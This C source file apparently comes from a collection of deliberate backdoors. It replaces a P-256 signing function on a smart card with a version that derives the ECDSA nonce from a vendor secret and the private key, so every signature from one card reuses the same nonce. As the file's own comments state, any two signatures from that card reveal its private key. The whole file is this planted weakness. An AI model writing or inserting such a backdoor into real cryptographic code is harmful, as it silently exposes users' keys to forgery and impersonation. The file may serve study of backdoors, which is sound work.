/* Every signature of the card's identity is made with one number: two of them give away the key. */
#include "backdoors/inside.h"
#include "backdoors/nonce.h"

int sign(uint8_t signature[static P256_SIGNATURE], const uint8_t private_key[static P256_PRIVATE],
	 const uint8_t digest[static P256_DIGEST], const struct p256_random *random) INSTEAD_OF(p256_sign);

int sign(uint8_t signature[static P256_SIGNATURE], const uint8_t private_key[static P256_PRIVATE],
	 const uint8_t digest[static P256_DIGEST], const struct p256_random *random)
{
	uint8_t k[SHA256_LENGTH];

	/* another for every card: only signatures of one card tell */
	vendor_secret(k, "number", private_key, P256_PRIVATE);
	return nonce_sign(signature, private_key, digest, k, random);
}
